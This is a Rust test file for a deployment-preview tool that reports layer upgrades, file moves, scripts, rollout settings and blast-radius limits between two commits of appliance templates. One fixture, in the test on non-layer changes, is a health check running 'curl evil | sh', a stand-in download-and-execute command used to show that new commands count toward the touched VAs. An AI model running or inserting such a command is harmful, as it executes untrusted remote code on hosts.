use std::collections::BTreeMap;
use std::sync::Arc;

use super::*;
use crate::check::check;
use crate::shared_paths::ManifestSource;
use crate::shared_paths::tests::manifest;
use crate::source::{SourceContent, SourceTree};
use crate::status::RunState;
use crate::universe::tests::universe;

const MAIN: &str = "Layer: base
Version: 1

Layer: libssl
Version: 1
Withdrawn: CVE-2026-1

Layer: libssl
Version: 2

Layer: libssl
Version: 3

Layer: web
Version: 1

Layer: tls-tools
Version: 1
";

/// libssl 3 leaves one file to tls-tools, drops one and brings one.
struct Units;

impl ManifestSource for Units {
    fn manifest(&self, entry: &LayerSetEntry) -> Option<Arc<Manifest>> {
        let files: &[(&str, &str)] =
            match (entry.layer.as_str(), entry.version.to_string().as_str()) {
                ("libssl", "1") => &[("usr/lib/libssl.so", "1")],
                ("libssl", "2") => &[
                    ("etc/ssl/openssl.cnf", "2"),
                    ("usr/bin/openssl", "2"),
                    ("usr/lib/libssl.so", "2"),
                    ("usr/share/old", "2"),
                    ("usr/share/same", "s"),
                ],
                ("libssl", "3") => &[
                    ("etc/ssl/openssl.cnf", "3"),
                    ("usr/lib/libssl.so", "3"),
                    ("usr/share/new", "3"),
                ],
                ("tls-tools", _) => &[("usr/bin/openssl", "t")],
                ("web", _) => &[("usr/bin/web", "w"), ("usr/share/same", "s")],
                _ => &[("etc/base", "b")],
            };
        Some(Arc::new(manifest(files)))
    }
}

impl UnitSource for Units {
    fn scripts(&self, entry: &LayerSetEntry) -> Option<Vec<String>> {
        Some(match entry.layer.as_str() {
            "libssl" => vec!["post-install".to_owned(), "pre-remove".to_owned()],
            _ => Vec::new(),
        })
    }

    fn is_present(&self, entry: &LayerSetEntry) -> bool {
        entry.layer.as_str() != "tls-tools"
    }
}

fn tree(files: &[(&str, &str)]) -> SourceTree {
    let mut tree = SourceTree::default();
    for (path, text) in files {
        let content = SourceContent::Regular { bytes: (*text).into(), executable: false };
        tree.insert(path.as_bytes(), content).expect("a path");
    }
    tree
}

const CONFIGURATION: &str = "rings = [\"canary\", \"everyone\"]\n[[repository]]\nname = \"main\"\n";

fn groups() -> Vec<VaGroup> {
    let group = |composition: &str, ring: Option<&str>, run_state, count| VaGroup {
        composition: composition.parse().expect("a name"),
        ring: ring.map(|ring| ring.parse().expect("a name")),
        pinned: ring.is_none().then(|| crate::digest::Digest::of(b"pinned")),
        run_state,
        count,
    };
    vec![
        group("web", Some("canary"), Some(RunState::Running), 3),
        group("web", Some("everyone"), Some(RunState::Suspended), 88),
        group("web", None, Some(RunState::Running), 2),
        group("sql", Some("everyone"), None, 7),
    ]
}

fn compare(base: &[(&str, &str)], head: &[(&str, &str)]) -> Preview {
    let universe = universe(&[("main", 500, MAIN)]);
    let (base, head) =
        (check(&tree(base), &universe, &Units), check(&tree(head), &universe, &Units));
    let side = |checked| Side { checked, universe: &universe };
    preview(side(&base), side(&head), &Units, &groups())
}

const WEB_2: &str = "main/web 1\n\nmain/base 1\nmain/libssl 2\n";

#[test]
fn an_upgrade_with_everything_it_moves() {
    let base = [
        ("strata.toml", CONFIGURATION),
        ("templates/web.ldf", WEB_2),
        ("templates/sql.ldf", "main/base 1\n"),
    ];
    let head = [
        ("strata.toml", CONFIGURATION),
        ("templates/web.ldf", "main/web 1\nmain/tls-tools 1\n\nmain/base 1\nmain/libssl 3\n"),
        ("templates/web/etc/ssl/openssl.cnf", "ours\n"),
        ("templates/sql.ldf", "main/base 1\n"),
    ];
    let found = compare(&base, &head);
    assert!(found.accepted, "{:?}", found.diagnostics);
    let [web] = found.compositions.as_slice() else { panic!("{found:?}") };
    assert_eq!((web.composition.as_str(), web.change), ("web", Existence::Changed));
    let layers: Vec<_> = web.layers.iter().map(|l| (l.layer.as_str(), l.change)).collect();
    assert_eq!(
        layers,
        [
            ("libssl", LayerChangeKind::Upgraded),
            ("tls-tools", LayerChangeKind::Added),
            ("web", LayerChangeKind::Added),
        ]
    );
    let paths = &web.paths;
    let of = |files: &[FileChange]| files.iter().map(|f| f.path.clone()).collect::<Vec<_>>();
    assert_eq!(of(&paths.appear), ["/usr/share/new"]);
    assert_eq!(of(&paths.vanish), ["/usr/share/old"], "web keeps /usr/share/same");
    assert_eq!(paths.handed_over[0].path, "/usr/bin/openssl");
    assert_eq!(paths.modified, 2);
    assert_eq!(
        (paths.configuration[0].path.as_str(), paths.configuration[0].change),
        ("/etc/ssl/openssl.cnf", "added")
    );
    assert_eq!(paths.shadowed[0].path, "/etc/ssl/openssl.cnf");
    let scripts: Vec<_> = web.scripts.iter().map(|s| format!("{} {}", s.unit, s.script)).collect();
    assert_eq!(scripts, ["main/libssl 2 pre-remove", "main/libssl 3 post-install"]);
    assert_eq!((web.touched_vas(), web.pinned_vas), (91, 2));
    assert_eq!((found.blast_radius.touched_vas, found.blast_radius.fleet_vas), (91, 100));
    assert!(found.blast_radius.within_limits);
}

#[test]
fn the_same_commit_changes_nothing() {
    let files = [("strata.toml", CONFIGURATION), ("templates/web.ldf", WEB_2)];
    let found = compare(&files, &files);
    assert!(found.is_empty() && found.accepted);
    assert_eq!(found.blast_radius.touched_vas, 0);
}

#[test]
fn what_is_withdrawn_can_be_left_behind() {
    let base =
        [("strata.toml", CONFIGURATION), ("templates/web.ldf", "main/base 1\nmain/libssl 1\n")];
    let head =
        [("strata.toml", CONFIGURATION), ("templates/web.ldf", "main/base 1\n=main/libssl 2\n")];
    let found = compare(&base, &head);
    assert!(found.accepted);
    let web = &found.compositions[0];
    assert_eq!(web.layers[0].change, LayerChangeKind::Upgraded);
    let held: Vec<_> = web.held.iter().map(|h| (h.line, h.newest.to_string())).collect();
    assert_eq!(held, [(2, "3".to_owned())]);
    let back = compare(&head, &base);
    assert!(!back.accepted);
    assert_eq!(back.compositions[0].layers[0].change, LayerChangeKind::Downgraded);
}

#[test]
fn compositions_and_declared_vas_come_and_go() {
    let appliance = |mac: &str, ring: &str| {
        format!("[[appliance]]\nname = \"w\"\nmac = \"{mac}\"\nldf = \"web\"\nring = \"{ring}\"\n")
    };
    let (one, two) =
        (appliance("52:54:00:00:00:01", "canary"), appliance("52:54:00:00:00:01", "everyone"));
    let base = [
        ("strata.toml", CONFIGURATION),
        ("templates/web.ldf", WEB_2),
        ("templates/sql.ldf", "main/base 1\n"),
        ("appliances.toml", one.as_str()),
    ];
    let head = [
        ("strata.toml", CONFIGURATION),
        ("templates/web.ldf", WEB_2),
        ("templates/new.ldf", "main/base 1\n"),
        ("appliances.toml", two.as_str()),
    ];
    let found = compare(&base, &head);
    let of: Vec<_> =
        found.compositions.iter().map(|c| (c.composition.as_str(), c.change)).collect();
    assert_eq!(of, [("new", Existence::Added), ("sql", Existence::Removed)]);
    assert_eq!(found.blast_radius.touched_vas, 0, "VAs of what goes stay as they are");
    assert!(matches!(found.appliances.as_slice(), [ApplianceChange::Moved { .. }]));
}

#[test]
fn faults_and_limits_are_said() {
    let base = [("strata.toml", CONFIGURATION), ("templates/web.ldf", WEB_2)];
    let bad = [("strata.toml", CONFIGURATION), ("templates/web.ldf", "main/nothing 1\n")];
    let found = compare(&base, &bad);
    assert!(!found.accepted);
    assert_eq!(found.unknown.len(), 1);
    for (limits, within) in [
        ("touched-vas = 91", true),
        ("touched-vas = 90", false),
        ("touched-percent = 91", true),
        ("touched-percent = 90", false),
    ] {
        let configuration = format!("{CONFIGURATION}[limits]\n{limits}\n");
        let head = [
            ("strata.toml", configuration.as_str()),
            ("templates/web.ldf", "main/web 1\n\nmain/base 1\nmain/libssl 3\n"),
        ];
        assert_eq!(compare(&base, &head).blast_radius.within_limits, within, "{limits}");
    }
}

#[test]
fn a_unit_that_is_not_here_is_named() {
    let mut inventory =
        crate::inventory::Inventory::parse(include_bytes!("../../golden/inventory"))
            .expect("golden");
    inventory.units = BTreeMap::new();
    let units = KnownUnits::of(&inventory).expect("no manifests");
    let universe = universe(&[("main", 500, MAIN)]);
    let checked = |ldf| {
        check(
            &tree(&[("strata.toml", CONFIGURATION), ("templates/web.ldf", ldf)]),
            &universe,
            &Units,
        )
    };
    let (base, head) = (checked(WEB_2), checked("main/web 1\n\nmain/base 1\nmain/libssl 3\n"));
    let side = |checked| Side { checked, universe: &universe };
    let found = preview(side(&base), side(&head), &units, &[]);
    assert_eq!(found.compositions[0].paths.unknown_units, ["main/libssl 2", "main/libssl 3"]);
}

const WEB_3: &str = "main/web 1\n\nmain/base 1\nmain/libssl 3\n";

#[test]
fn no_commit_widens_its_own_limits() {
    let limited = |limits: &str| format!("{CONFIGURATION}[limits]\n{limits}\n");
    for (base, head, most, within) in [
        ("touched-vas = 90", "touched-vas = 500", Some(90), false),
        ("touched-vas = 90", "", Some(90), false),
        ("touched-vas = 500", "touched-vas = 90", Some(90), false),
        ("touched-vas = 91", "touched-vas = 500", Some(91), true),
        ("", "", None, true),
    ] {
        let (base, head) = (limited(base), limited(head));
        let base = [("strata.toml", base.as_str()), ("templates/web.ldf", WEB_2)];
        let head = [("strata.toml", head.as_str()), ("templates/web.ldf", WEB_3)];
        let radius = compare(&base, &head).blast_radius;
        assert_eq!((radius.most_vas, radius.within_limits), (most, within));
    }
}

#[test]
fn vas_that_move_to_another_template_are_touched() {
    let appliances = |ldf: &str| {
        let declare = |n: u32| {
            format!(
                "[[appliance]]\nname = \"w{n}\"\nmac = \"52:54:00:00:00:0{n}\"\nldf = \"{ldf}\"\nring = \"canary\"\n"
            )
        };
        (1..=5).map(declare).collect::<String>()
    };
    let configuration = format!("{CONFIGURATION}[limits]\ntouched-vas = 4\n");
    let (web, sql) = (appliances("web"), appliances("sql"));
    let of = |after_ldf: &str| {
        let base = [
            ("strata.toml", configuration.as_str()),
            ("templates/web.ldf", WEB_2),
            ("templates/sql.ldf", "main/base 1\n"),
            ("appliances.toml", web.as_str()),
        ];
        let mut head = base;
        head[1].1 = after_ldf;
        head[3].1 = sql.as_str();
        compare(&base, &head)
    };
    let found = of(WEB_2);
    let radius = &found.blast_radius;
    assert_eq!((radius.touched_vas, radius.moved_vas, radius.within_limits), (5, 5, false));
    assert_eq!(found.appliances.len(), 5);
    // Those whose template changes anyway are counted once.
    let found = of(WEB_3);
    assert_eq!((found.blast_radius.touched_vas, found.blast_radius.moved_vas), (91, 0));
}

#[test]
fn what_is_no_layer_is_listed_too() {
    let before = format!(
        "{CONFIGURATION}[limits]\ntouched-vas = 2\n[rollout]\non-failure = \"auto-rollback\"\n"
    )
    .replace("rings = [\"canary\", \"everyone\"]\n", "")
        + "[[rollout.ring]]\nname = \"canary\"\nsoak = \"1h\"\n[[rollout.ring]]\nname = \"everyone\"\n";
    let check = "[[check]]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
    let base = [
        ("strata.toml", before.as_str()),
        ("templates/web.ldf", WEB_2),
        ("templates/web.health", "[[check]]\ntcp = \"{name}:80\"\n"),
        ("templates/web.data", "/var/lib/web\n"),
    ];
    let head = [
        ("strata.toml", CONFIGURATION),
        ("templates/web.ldf", WEB_2),
        ("templates/web.health", check),
        ("templates/web.data", "/srv\n"),
    ];
    let found = compare(&base, &head);
    assert!(found.accepted && !found.is_empty(), "{:?}", found.diagnostics);
    let of = |value: &Option<String>| value.clone().unwrap_or_else(|| "-".to_owned());
    let settings: Vec<_> = found
        .settings
        .iter()
        .map(|change| format!("{}: {} → {}", change.key, of(&change.from), of(&change.to)))
        .collect();
    assert_eq!(
        settings,
        [
            "limits.touched-vas: 2 → -",
            "rings: - → [\"canary\", \"everyone\"]",
            "rollout.on-failure: \"auto-rollback\" → -",
            "rollout.ring: [\"canary\", \"everyone\"] → -",
            "rollout.ring[canary].soak: \"1h\" → -",
        ]
    );
    let health: Vec<_> = found
        .health
        .iter()
        .map(|h| (h.change, h.tcp.is_some(), h.command.clone().unwrap_or_default().len(), h.vas))
        .collect();
    assert_eq!(health, [(CheckChange::Removed, true, 0, 93), (CheckChange::Added, false, 3, 93)]);
    let data: Vec<_> = found.compositions[0]
        .data
        .iter()
        .map(|data| (data.change, data.path.to_string()))
        .collect();
    let expected = [("/srv", Existence::Added), ("/var/lib/web", Existence::Removed)];
    assert_eq!(data, expected.map(|(path, change)| (change, path.to_owned())));
    // A command runs in every VA although no generation changes.
    let base = [("strata.toml", CONFIGURATION), ("templates/web.ldf", WEB_2)];
    let head = [base[0], base[1], ("templates/web.health", check)];
    let found = compare(&base, &head);
    assert_eq!((found.compositions.len(), found.blast_radius.touched_vas), (0, 91));
    assert!(compare(&head, &base).blast_radius.touched_vas == 0, "none runs any more");
}
